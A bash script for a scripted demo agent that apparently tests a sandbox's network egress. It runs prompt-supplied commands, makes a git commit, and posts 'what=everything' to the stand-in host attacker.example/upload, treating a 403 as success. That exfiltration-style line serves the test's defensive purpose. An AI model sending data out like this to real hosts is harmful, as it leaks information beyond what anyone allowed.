#!/bin/bash
# A scripted agent: it does what its prompt says, line by line, and shows what comes of it.
#
#   run: COMMAND    runs it with bash and goes on, whatever its status
#   must: COMMAND   runs it and ends with its status unless that is 0
#   exit N          ends with status N
#   # ...           is skipped
#
# Any other line is said back. Without a single instruction it takes its tour.
set -u

about='' visit='' refused='https://attacker.example/upload' prompt='' headless='' resumed=''
while [ $# -gt 0 ]; do
  case $1 in
    --about) about=${2-} ;;
    --visit) visit=${2-} ;;
    --refused) refused=${2-} ;;
    --prompt) prompt=${2-} headless=yes ;;
    --resume) resumed=yes; shift; continue ;;
    *) printf 'demo: unknown argument %q\n' "$1" >&2; exit 64 ;;
  esac
  shift $(($# < 2 ? $# : 2))
done

say() { printf 'demo: %s\n' "$*"; }

run() {
  local status
  printf '$ %s\n' "$1"
  bash -c "$1"
  status=$?
  printf '[status %d]\n' "$status"
  return "$status"
}

finish() {
  say "I end with status $1."
  exit "$1"
}

obey() {
  case $1 in
    run:*) run "${1#run:}" ;;
    must:*) run "${1#must:}" || finish $? ;;
    exit\ *[!0-9]* | exit\ ????*) say "I cannot read the status in: $1"; finish 64 ;;
    exit\ [0-9]*) finish $((10#${1#exit })) ;;
    '' | '#'*) ;;
    *) say "I was told: $1" ;;
  esac
}

tour() {
  local answer failed=0
  say "I take my tour: work in the folder, a refused request, an allowed one."
  run 'echo "I am $(id -un) in $PWD; my network interfaces: $(tail -n +3 /proc/net/dev | cut -d: -f1 | xargs)"'
  run 'git rev-parse --git-dir >/dev/null 2>&1 || git init -q -b main' || failed=1
  run 'date -u +"The demo agent was here at %FT%TZ." >> demo.txt && git add demo.txt &&
  git -c user.name="${GIT_AUTHOR_NAME:-$(git config user.name || echo Demo)}" -c user.email="$(git config user.email || echo demo@bottle.invalid)" \
    commit -q -m "Leave a note" -- demo.txt && git log --oneline -1' || failed=1
  say "Now I try to send something to a host that nobody allowed."
  answer=$(run "curl -sS --max-time 20 -w '\n[HTTP %{http_code}]' --data 'what=everything' '$refused'")
  printf '%s\n' "$answer"
  case $answer in *'[HTTP 403]'*) ;; *) failed=1 ;; esac
  if [ -n "$visit" ]; then
    say "And now to one that the bottle allows."
    answer=$(run "curl -sS --max-time 60 -o /dev/null -w '[HTTP %{http_code}, %{size_download} bytes]\n' '$visit'")
    printf '%s\n' "$answer"
    case $answer in *'[HTTP 2'* | *'[HTTP 3'*) ;; *) failed=1 ;; esac
  else
    say "This is all that the bottle allows:"
    run 'curl -sS --max-time 20 http://_egress.local/allowlist; echo'
  fi
  finish "$failed"
}

mkdir -p "$HOME/.demo" && echo session >>"$HOME/.demo/sessions"
say "I am a scripted agent, session $(wc -l <"$HOME/.demo/sessions") in this bottle."
[ -z "$resumed" ] || say "I go on where I was."
[ -z "$about" ] || say "My own prompt: $(head -n 1 "$about")"

if [ -n "$headless" ]; then
  # Commands of the prompt's must not read the lines that come after them.
  exec 3<<<"$prompt" </dev/null
  grep -qE '^[[:space:]]*(run:|must:|exit [0-9])' <<<"$prompt" || tour
  while read -r -u 3 line || [ -n "$line" ]; do obey "$line"; done
  finish 0
fi

say "Type 'run: COMMAND', 'tour' or 'exit N'; Ctrl-D ends."
trap 'printf "\n"; say "interrupted"' INT
while read -r -e -p 'demo> ' line; do
  if [ "$line" = tour ]; then (tour); else obey "$line"; fi
done
finish 0
